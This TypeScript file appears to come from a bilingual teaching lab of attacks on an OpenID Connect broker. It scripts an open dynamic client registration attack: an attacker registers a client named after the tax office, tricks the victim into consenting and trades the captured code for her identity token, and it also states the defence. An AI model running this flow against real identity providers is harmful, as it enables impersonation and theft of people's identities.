/** A service nobody knows registers itself, under a name that everybody knows. */
import { ANGELA, abbreviate } from '../actors.ts';
import { type Attack, fails, works } from '../attack.ts';
import type { Lab, LabAnswer } from '../lab.ts';
import { authorizeUrl, goThrough, OPEN_CAST, postForm, tokenIn } from '../open.ts';

const NAME = 'Impôts';

export const anyoneRegisters: Attack = {
  id: 'anyone-registers',
  rfc: 'RFC 7591 §5',
  title: { fr: 'Le service qui s’inscrit seul', en: 'The service that registers itself' },
  hook: {
    fr: 'Malo inscrit un service nommé « Impôts ». Le tiers de confiance l’annonce.',
    en: 'Malo registers a service named “Impôts”. The broker announces it.',
  },
  scene: {
    fr: 'Le tiers de confiance laisse les services s’inscrire par programme, avec un jeton qu’il remet à ceux qu’il connaît. Malo n’en a pas. Il se présente quand même, sous le nom des Impôts, et envoie à Angela le lien de « son » service.',
    en: 'The broker lets services register by program, with a token that it hands to those it knows. Malo has none. He comes anyway, under the name of the tax office, and sends Angela the link of “his” service.',
  },
  victimSees: {
    fr: 'La vraie page du tiers de confiance : « Impôts » demande votre identité.',
    en: 'The broker’s real page: “Impôts” asks for your identity.',
  },
  attackerGains: {
    fr: 'L’identité d’Angela, donnée de bonne foi.',
    en: 'Angela’s identity, given in good faith.',
  },
  cast: OPEN_CAST,
  weakness: 'broker.registers-anyone',
  check:
    'registration: { enabled: dynamic, initialAccessToken: anyone ? false : initialAccessToken },',
  defence: {
    fr: 'L’inscription demande un jeton remis d’avance (initial access token). Elle est fermée tant que la configuration ne l’ouvre pas, et d’un service inscrit ainsi les personnes sont toujours prévenues.',
    en: 'Registration asks for a token handed out beforehand (initial access token). It is closed until the configuration opens it, and people are always asked for a service that came this way.',
  },
  refusal: 'invalid_token',
  async prepare(lab) {
    const initialAccessToken = 'a-token-for-services-that-the-broker-has-met';
    const broker = lab.item('brokers', lab.broker);
    await lab.put('brokers', { ...broker, dynamicRegistration: true, initialAccessToken });
  },
  async play(lab, narrate) {
    const redirect_uri = `${lab.url('attacker')}/callback`;
    const registered = await register(lab, { client_name: NAME, redirect_uris: [redirect_uri] });
    narrate(
      'attacker',
      `Lit la découverte, et inscrit un service nommé « ${NAME} » : réponse ${registered.status}.`,
      `Reads discovery, and registers a service named “${NAME}”: answer ${registered.status}.`,
    );
    const client_id = tokenIn(registered, 'client_id');
    if (!client_id)
      return fails(
        'Le tiers de confiance n’inscrit que ceux qu’il connaît.',
        'The broker registers only those it knows.',
        registered.refusal,
      );
    const asked = { client_id, redirect_uri, response_type: 'code', scope: 'openid profile' };
    await goThrough(lab.victim, authorizeUrl(lab, asked), ANGELA.login);
    narrate(
      'victim',
      `Lit « ${NAME} » sur la page du tiers de confiance, et accepte.`,
      `Reads “${NAME}” on the broker’s page, and agrees.`,
    );
    const code = (await lab.notebook.captures()).at(-1)?.values.code ?? '';
    const form = { grant_type: 'authorization_code', code, redirect_uri };
    const authorization = `Basic ${btoa(`${client_id}:${tokenIn(registered, 'client_secret')}`)}`;
    const tokens = await postForm(lab, 'attacker', {
      path: '/token',
      form,
      headers: { authorization },
    });
    narrate(
      'attacker',
      `Échange le code ${abbreviate(code)} : réponse ${tokens.status}.`,
      `Exchanges the code ${abbreviate(code)}: answer ${tokens.status}.`,
    );
    return tokenIn(tokens)
      ? works(
          'Malo tient un jeton d’accès à l’identité d’Angela.',
          'Malo holds an access token to Angela’s identity.',
        )
      : fails('Le code n’a rien donné.', 'The code gave nothing.', tokens.refusal);
  },
};

/** Without a token, then with one that he made up. */
async function register(lab: Lab, metadata: object): Promise<LabAnswer> {
  const url = `${lab.issuer}/.well-known/openid-configuration`;
  const { json } = await lab.call('attacker', url, { method: 'GET' });
  const at = String(json.registration_endpoint);
  const headers = { 'content-type': 'application/json' };
  const body = JSON.stringify(metadata);
  const first = await lab.call('attacker', at, { headers, body });
  if (first.status === 201) return first;
  const authorization = 'Bearer a-token-that-malo-made-up';
  return lab.call('attacker', at, { headers: { ...headers, authorization }, body });
}
